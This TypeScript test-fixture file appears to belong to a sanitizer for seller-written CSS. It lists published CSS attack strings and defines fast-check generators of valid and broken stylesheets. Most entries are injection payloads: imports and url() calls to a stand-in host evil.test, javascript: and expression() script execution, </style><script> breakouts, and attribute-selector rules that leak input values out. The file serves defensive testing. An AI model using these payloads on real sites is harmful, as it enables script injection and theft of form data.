// What the tests of a seller's CSS share: published attacks, and texts put together from what such
// attacks are made of.
import fc from "fast-check";

/** Each tries to load, to run, or to get out of its element, its rule or its page. */
export const attacks: readonly [kind: string, css: string][] = [
  ["an import", '@import "https://evil.test/a.css";'],
  ["an import by address", "@import url(//evil.test/a.css) screen;"],
  ["an import written with escapes", "@\\69mport 'https://evil.test/a.css';"],
  ["an import behind a comment", "@import/**/'https://evil.test/a.css';"],
  ["a charset", '@charset "utf-7"; .tile{color:red}'],
  ["a namespace", "@namespace url(https://evil.test/ns);"],
  ["a foreign picture", ".tile{background:url(https://evil.test/a.png)}"],
  ["an address without a scheme", ".tile{background:url(//evil.test/a.png)}"],
  ["an address with backslashes", '.tile{background:url("\\\\\\\\evil.test/a.png")}'],
  ["a script as an address", ".tile{background-image:url(javascript:alert('XSS'))}"],
  [
    "a script with escaped letters",
    ".tile{background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029}",
  ],
  ["data that is a page", ".tile{background:url('data:text/html,<script>alert(1)</script>')}"],
  ["data that is a picture", ".tile{background:url(data:image/svg+xml;base64,PHN2Zz4=)}"],
  ["an address by escapes", ".tile{background:\\75rl(https://evil.test/a.png)}"],
  [
    "an address by capital escapes",
    ".tile{background:\\000055\\000052\\00004c('https://evil.test/a')}",
  ],
  ["an address with a comment in its name", ".tile{background:u/**/rl('https://evil.test/a')}"],
  ["an address that climbs", ".tile{background:url(/media/../checkout/x)}"],
  ["an address that climbs by per cent", ".tile{background:url(/media/%2e%2e/%2e%2e/x)}"],
  ["an address with a tab", '.tile{background:url("/\\9/evil.test/a.png")}'],
  ["a set of pictures", '.tile{background:image-set("https://evil.test/a.png" 1x)}'],
  ["an older set of pictures", ".tile{background:-webkit-image-set(url(https://evil.test/a) 1x)}"],
  ["a picture by its text", '.tile{background:image("https://evil.test/a.png")}'],
  ["a source", '.tile{background:src("https://evil.test/a.png")}'],
  [
    "a source in a property of its own",
    '.tile{--a:src("https://evil.test/a.png");background:var(--a)}',
  ],
  [
    "an address in a property of its own",
    ".tile{--a:url(https://evil.test/a);background:var(--a)}",
  ],
  ["an address that an attribute names", ".tile{background:attr(data-src type(<url>))}"],
  ["a foreign pointer", ".tile{cursor:url(https://evil.test/a.cur),auto}"],
  ["a foreign list mark", ".tile{list-style-image:url(https://evil.test/a)}"],
  ["a foreign filter", ".tile{filter:url(https://evil.test/f.svg#x)}"],
  ["a foreign typeface", "@font-face{font-family:a;src:url(https://evil.test/f.woff2)}"],
  [
    "letters that tell on themselves",
    "@font-face{font-family:a;src:url(https://evil.test/?a);unicode-range:U+0041}",
  ],
  ["an expression", ".tile{width:expression(alert('XSS'))}"],
  ["an expression with a comment", ".tile{xss:expr/*XSS*/ession(alert('XSS'))}"],
  ["an expression with escapes", ".tile{width:\\65xpression(alert(1))}"],
  ["a behaviour", ".tile{behavior:url(xss.htc)}"],
  ["a binding", ".tile{-moz-binding:url('https://evil.test/xss.xml#xss')}"],
  [
    "a filter of an old browser",
    ".tile{filter:progid:DXImageTransform.Microsoft.Alpha(opacity=0)}",
  ],
  ["a link to a script", ".tile{-o-link:'javascript:alert(1)';-o-link-source:current}"],
  ["a value that tells its first letter", 'input[value^="a"]{background:url(https://evil.test/a)}'],
  [
    "a value that tells through :has",
    'html:has(input[value^="a"]){background:url(https://evil.test/a)}',
  ],
  ["an end of the element", "</style><script>alert(1)</script>"],
  ["an end of the element in a string", '.tile{content:"</style><img src=x onerror=alert(1)>"}'],
  ["an end of the element in a name", ".\\3c/style\\3e{color:red}"],
  ["an end of the element in a comment", "/*</style><script>alert(1)</script>*/.tile{color:red}"],
  [
    "an end of the element in a condition",
    "@media (width</style><script>alert(1)</script>){.tile{color:red}}",
  ],
  ["a comment of HTML", "<!--.tile{color:red}--><script>"],
  ["a second end of a rule", ".tile{color:red}}body{display:none}"],
  ["an end of a condition that has none", "@media screen{.tile{color:red}}}html{display:none}"],
  ["a condition that never ends", "@media screen{.tile{color:red}"],
  ["a string that never ends", '.tile{content:"a\n}html{display:none}'],
  ["a string over two lines", '.tile{content:"a\\\n}html{display:none}"}'],
  ["a bracket that never ends", ".tile{width:calc(1px}html{display:none}"],
  ["brackets crosswise", ".tile{width:calc([1px)]}html{display:none}"],
  ["a bracket in a selector that never ends", ".tile:not({color:red}html{display:none}"],
  ["a comment that never ends", ".tile{color:red}/*html{display:none}"],
  ["a null character", ".ti\0le{back\0ground:u\0rl(https://evil.test/a)}"],
  ["a lone half of a character", ".\ud800{content:'\udc00'}"],
  [
    "what stands beside the page",
    "body+*{display:none}html~div{display:none}:root~*{display:none}",
  ],
  ["what stands around the page", ".a{html:not(&){display:none}:is(&,html){display:none}}"],
  [
    "what stands beside the page, nested",
    "body{& + *{display:none}~ *{display:none}&:hover + *{color:red}}",
  ],
  ["a parent without a rule", "& ~ *{display:none}&{display:none}"],
  [
    "the page by another way",
    ":scope{display:none}:host{display:none}::view-transition{display:none}",
  ],
  ["a scope of its own", "@scope (html){:scope{display:none}}"],
  ["a page of paper", "@page{margin:0}"],
  [
    "a property that is announced",
    '@property --a{syntax:"<url>";inherits:true;initial-value:url(https://evil.test)}',
  ],
  ["a document of an old browser", "@document url(https://x){body{display:none}}"],
  [
    "another at-rule in a rule",
    ".tile{@import 'https://evil.test/a.css';@font-face{src:url(https://evil.test)}}",
  ],
];

const fragments = [
  "a",
  "html",
  "body",
  ":root",
  ".shop-page",
  ".tile",
  "#x",
  "*",
  "&",
  ">",
  "+",
  "~",
  "||",
  "|",
  " ",
  "\n",
  ",",
  ":is(",
  ":not(",
  ":has(",
  ":nth-child(",
  ":hover",
  "::before",
  ":",
  "2n+1",
  "of",
  "[",
  "]",
  "a=b",
  "^=",
  "i",
  "{",
  "}",
  "(",
  ")",
  ";",
  ":",
  "!important",
  "!",
  "@media",
  "@layer",
  "@keyframes",
  "@supports",
  "@container",
  "@import",
  "@font-face",
  "@starting-style",
  "@scope",
  "from",
  "50%",
  "screen",
  "(width<",
  "width",
  "<",
  "=",
  "<=",
  "color",
  "background",
  "--x",
  "content",
  "src",
  "color:red",
  "red",
  "1px",
  "-1e3",
  "+.5em",
  "#fff",
  "U+26",
  "%",
  "url(",
  "url(/media/a.png)",
  "url({{assetPath}}/b.svg)",
  "URL('//e')",
  "var(--x)",
  "calc(",
  "rgb(",
  "expression(",
  '"',
  "'",
  '"a"',
  "'</style>'",
  "\\",
  "\\3c ",
  "\\75rl(",
  "/*",
  "*/",
  "<!--",
  "-->",
  "</style>",
  "\0",
  "é",
  "🎸",
  "-",
  "--",
  "/",
  "@",
  ".",
];

/** Mostly broken, sometimes good. */
export const anyCss = fc
  .array(
    fc.oneof(
      { weight: 20, arbitrary: fc.constantFrom(...fragments) },
      fc.string({ unit: "binary" }),
    ),
    {
      maxLength: 60,
    },
  )
  .map((parts) => parts.join(""));

const anySelector = fc.constantFrom(
  "body",
  ".tile",
  "& .b",
  "> a",
  "html .a:not(body)",
  ".a,.b",
  "+ p",
  ":root",
);
const anyDeclaration = fc.constantFrom(
  "color:red",
  "background:url({{assetPath}}/a.svg) no-repeat",
  "--own: calc(1px + var(--x))",
  'content:"<a>@("',
  "width:calc(100% - (2*1px))!important",
  "grid-template-columns:[a b] minmax(1rem,1fr)/auto",
);
const anyCondition = fc.constantFrom(
  "@media (width<600px)",
  "@media (400px<=width<=700px) and (hover:hover)",
  "@supports (display:grid) and (not (gap:1px))",
  "@container card (inline-size>30em)",
  "@layer a.b",
  "@starting-style",
);

/** Rules in rules, as a seller would write them. */
export const goodCss = fc.letrec<{ rule: string; body: string }>((tie) => ({
  rule: fc
    .tuple(fc.oneof({ weight: 3, arbitrary: anySelector }, anyCondition), tie("body"))
    .map(([start, body]) => `${start}{${body}}`),
  body: fc
    .array(
      fc.oneof(
        { depthSize: "small" },
        anyDeclaration.map((text) => `${text};`),
        tie("rule"),
      ),
      { maxLength: 4 },
    )
    .map((parts) => parts.join(" ")),
})).rule;

/** Good rules, broken at any place. */
export const brokenCss = fc
  .tuple(goodCss, fc.array(fc.tuple(fc.nat(), fc.constantFrom(...fragments)), { maxLength: 4 }))
  .map(([good, breaks]) =>
    breaks.reduce((css, [at, fragment]) => {
      const index = at % (css.length + 1);
      return css.slice(0, index) + fragment + css.slice(index);
    }, good),
  );
